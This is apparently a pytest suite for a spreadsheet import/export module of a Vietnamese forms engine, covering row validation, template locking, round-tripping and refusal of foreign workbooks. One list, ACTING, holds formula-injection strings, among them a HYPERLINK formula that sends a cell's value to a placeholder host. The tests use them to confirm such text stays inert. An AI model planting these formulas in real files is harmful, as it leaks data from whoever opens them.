"""Workbooks: what goes out, what comes back, and what a stranger's file can do."""

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from phoihop.base.security.uploads import worker
from phoihop.engines.forms import sheet_child, sheet_in, sheet_layout, sheet_out
from phoihop.engines.forms.definition import Form
from phoihop.engines.forms.desk import Explained
from phoihop.engines.forms.reading import Given, Reason
from phoihop.engines.forms.sheet_in import Sheet
from phoihop.engines.forms.tests.samples import TODAY
from phoihop.engines.forms.tests.test_reading import REGISTER, VISIT
from phoihop.kernel.refusals import Refusal

MONTH = date(2026, 11, 30)
MIDNIGHT = datetime(2026, 11, 1)  # noqa: DTZ001 - a spreadsheet knows no zones


def filled(form: Form, rows: list[list[Any]], month: Any = MONTH, start: int = 3) -> bytes:
    """The template of a form with these rows typed into it by a spreadsheet program."""
    book = openpyxl.load_workbook(io.BytesIO(sheet_out.template(form, "vi")))
    for n, row in enumerate(rows, start):
        for m, value in enumerate(row, 1):
            book.worksheets[0].cell(n, m, value)
    if form.table is not None:
        book.worksheets[1]["B1"] = month
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


def read_back(form: Form, data: bytes, most: int = 1_000) -> Sheet:
    """As ``sheet_in.take`` does, without a child process; one test goes the whole way."""
    given_ = {
        "form": sheet_layout.identity(form),
        "columns": [column.code for column in sheet_layout.columns(form)],
        "above": [field.code for field in sheet_layout.above(form)],
        "most": most,
    }
    value, lines = sheet_child.cells(data, given_)
    return Sheet(form, value["above"], lines)


def verdicts(sheet: Sheet) -> list[tuple[int, str, list[str]]]:
    return [
        (row.number, row.verdict, [note.address for note in row.notes]) for row in sheet.rows(Given(TODAY))
    ]


ROW = ["A-1", date(2026, 11, 1), 60, "Có", "Tại chỗ", "", ""]


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        ([ROW], [(3, "accepted", [])]),
        ([ROW[:3]], [(3, "accepted", [])]),
        ([ROW, [], [], ["B-2", *ROW[1:]]], [(3, "accepted", []), (6, "accepted", [])]),
        ([ROW, ROW], [(3, "accepted", []), (4, "refused", ["A4"])]),
        ([["A-1", "31/2/2026", "ba"]], [(3, "refused", ["B3", "C3"])]),
        ([["A-1", "1/12/2026", 60]], [(3, "refused", ["B3"])]),  # after the period
        ([["A-1", "1/11/2026", 500]], [(3, "warned", ["C3"])]),
        ([["A-1", "1/11/2026", 500, "", "", "", "cân lại"]], [(3, "accepted", [])]),
        ([["A-1", "1/11/2026", 500, "", "", "", "ừ"]], [(3, "warned", ["C3"])]),
        ([["A-1", "1/11/2026", 2000, "", "", "", "cân lại"]], [(3, "refused", ["C3"])]),
        ([["A-1", "1/11/2026", "1.000,5"]], [(3, "refused", ["C3"])]),
        ([["A-1", MIDNIGHT, "60,5"]], [(3, "accepted", [])]),
        ([["A-1", "1/11/2026", 0.1 + 0.2]], [(3, "accepted", [])]),
        ([["A-1", 46000.5, 60]], [(3, "refused", ["B3"])]),
        ([["A-1", "1/11/2026", True]], [(3, "accepted", [])]),
    ],
)
def test_each_row_has_a_verdict(rows: list[list[Any]], expected: list[Any]):
    assert verdicts(read_back(REGISTER, filled(REGISTER, rows))) == expected


def test_what_is_taken_is_exact():
    row = ["a-1", date(2026, 11, 1), 0.1 + 0.2, "có", "mang ve", "x", "nhà xa"]
    sheet = read_back(REGISTER, filled(REGISTER, [row]))
    (line,) = sheet.lines(Given(TODAY))
    assert sheet.head(Given(TODAY)).head["month"] == MONTH
    assert line.values == {
        "person": "A-1",
        "day": date(2026, 11, 1),
        "amount": Decimal("0.30"),
        "volume": Decimal("0.03"),
        "seen": "yes",
        "kind": "home",
        "note": "x",
    }
    (explained,) = line.explained
    assert explained == Explained("kind", "home-unseen", Reason("other", "nhà xa"))


def test_a_form_without_a_table_is_one_row_each_time():
    columns = [column.code for column in sheet_layout.columns(VISIT)]
    row = {"day": "20/11/2026", "came": "Có", "amount": 60, "signs": "Ho; Sốt", "note": "dòng 1\ndòng 2"}
    data = filled(VISIT, [[row.get(code, "") for code in columns]])
    (line,) = read_back(VISIT, data).lines(Given(TODAY))
    assert line.values["signs"] == ("fever", "cough")
    assert line.values["note"] == "dòng 1\ndòng 2"
    assert line.values["volume"] == Decimal("6.00")
    assert "volume" not in columns


def test_the_template_is_locked_where_it_says_what_is_asked():
    book = openpyxl.load_workbook(io.BytesIO(sheet_out.template(REGISTER, "vi")))
    data, above, lists = book.worksheets
    assert [data.protection.sheet, above.protection.sheet, lists.protection.sheet] == [True] * 3
    assert data["A2"].protection.locked
    assert not data.column_dimensions["A"].protection.locked
    assert data.row_dimensions[1].hidden
    assert data.freeze_panes == "A3"
    assert data["C2"].value == "Lượng (mg) (bắt buộc)"
    rules = {str(rule.sqref).partition(":")[0]: rule for rule in data.data_validations.dataValidation}
    assert rules["E3"].formula1 == "'Danh mục'!$C$3:$C$4"
    assert rules["C3"].type == "decimal"
    assert {rule.errorStyle for rule in rules.values()} == {"warning"}  # the program says the last word
    assert [lists["C3"].value, lists["C4"].value] == ["Tại chỗ", "Mang về"]
    assert (book.properties.creator or "", book.properties.created.year) == ("", 2000)


@pytest.mark.parametrize("lang", ["vi", "en"])
@pytest.mark.parametrize("form", [VISIT, REGISTER], ids=["visit", "register"])
def test_an_empty_template_has_nothing_to_take(form: Form, lang: str):
    data = sheet_out.template(form, lang)
    value, lines = sheet_child.cells(
        data,
        {
            "form": sheet_layout.identity(form),
            "columns": [column.code for column in sheet_layout.columns(form)],
            "above": [],
            "most": 10,
        },
    )
    assert (value["above"], lines) == ({}, b"")


ACTING = ['=HYPERLINK("http://e.example/?"&A1)', "+cmd", "-1+1", "@x", "＝1+1", "'=1", "http://e.example"]


@pytest.mark.parametrize("text", ACTING)
def test_a_text_that_acts_stays_a_text_and_comes_back(text: str):
    row: sheet_out.Marked = (
        ["A-1", "1/11/2026", "sai", "", "", text, "vì sao"],
        {},
        "C3: sai",
        frozenset({"amount"}),
    )
    data = sheet_out.marked(REGISTER, {"month": "30/11/2026"}, [row], "vi")
    (back,) = read_back(REGISTER, data).rows(Given(TODAY))
    assert list(back.texts) == list(row[0])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name) and "sheet1" in name]


LINES = st.tuples(st.text(max_size=20), st.decimals(0, 120, places=2), st.dates(date(2000, 1, 1), MONTH))


@given(st.lists(LINES, max_size=4))
def test_what_goes_out_comes_back(lines: list[tuple[str, Decimal, date]]):
    notes = ["".join(c for c in note if c.isprintable()).strip() for note, _, _ in lines]
    rows: list[sheet_out.Marked] = [
        (
            [f"P-{n}", "ngày", "số", "", "", notes[n], ""],
            {"person": f"P-{n}", "amount": amount, "day": day},
            "",
            frozenset[str](),
        )
        for n, (_, amount, day) in enumerate(lines)
    ]
    data = sheet_out.marked(REGISTER, {"month": "30/11/2026"}, rows, "en")
    back = list(read_back(REGISTER, data).rows(Given(TODAY)))
    assert [(row.verdict, row.values["amount"], row.values["day"]) for row in back] == [
        ("accepted", amount, day) for _, amount, day in lines
    ]


def altered(change: Any) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(filled(REGISTER, [ROW])))
    change(book)
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda book: book.worksheets[2].delete_rows(1), "other-form"),
        (lambda book: book.worksheets[2].cell(1, 1, "register.v2"), "other-form"),
        (lambda book: book.worksheets[0].delete_rows(1), "no-sheet"),
        (lambda book: book.worksheets[0].cell(1, 3, "much"), "no-sheet"),
        (lambda book: book.remove(book.worksheets[2]), "other-form"),
    ],
)
def test_a_sheet_of_another_form_is_refused(change: Any, reason: str):
    with pytest.raises(Refusal) as refused:
        read_back(REGISTER, altered(change))
    assert refused.value.reason == reason


def test_columns_may_be_moved():
    def move(book: Any) -> None:
        sheet = book.worksheets[0]
        sheet.insert_cols(1)
        for n in range(1, 4):
            sheet.cell(n, 1, sheet.cell(n, 4).value)
            sheet.cell(n, 4, None)

    assert verdicts(read_back(REGISTER, altered(move))) == [(3, "accepted", [])]


def test_more_rows_than_are_taken_are_refused():
    with pytest.raises(Refusal) as refused:
        read_back(REGISTER, filled(REGISTER, [ROW] * 4), most=3)
    assert refused.value.reason == "too-many-rows"


@pytest.mark.parametrize("data", [b"", b"PK\x05\x06" + bytes(18), b"not a workbook"])
def test_what_is_no_workbook_is_refused(data: bytes):
    with pytest.raises(Refusal):
        sheet_in.take(REGISTER, data, "so.xlsx")


def test_a_workbook_goes_the_whole_way_through_a_child():
    sheet = sheet_in.take(REGISTER, filled(REGISTER, [ROW, ["B-2", "31/2/2026", 7.5]]), "Sổ tháng 11.xlsx")
    assert verdicts(sheet) == [(3, "accepted", []), (4, "refused", ["B4"])]
    with pytest.raises(Refusal) as refused:
        sheet_in.take(REGISTER, sheet_out.template(REGISTER, "vi"), "so.xlsx")
    assert refused.value.reason == "nothing-written"
    with pytest.raises(Refusal) as refused:
        sheet_in.take(VISIT, filled(REGISTER, [ROW]), "so.xlsx")
    assert refused.value.reason == "other-form"


def test_a_refusal_of_the_child_is_worded_for_people():
    with pytest.raises(Refusal) as refused:
        worker.run(worker.name_of(sheet_child.cells), sheet_out.template(VISIT, "vi"), {
            "form": "register.v1", "columns": [], "above": [], "most": 1,
        })  # fmt: skip
    assert refused.value.message.vi.startswith("Đây là bảng của biểu khác")
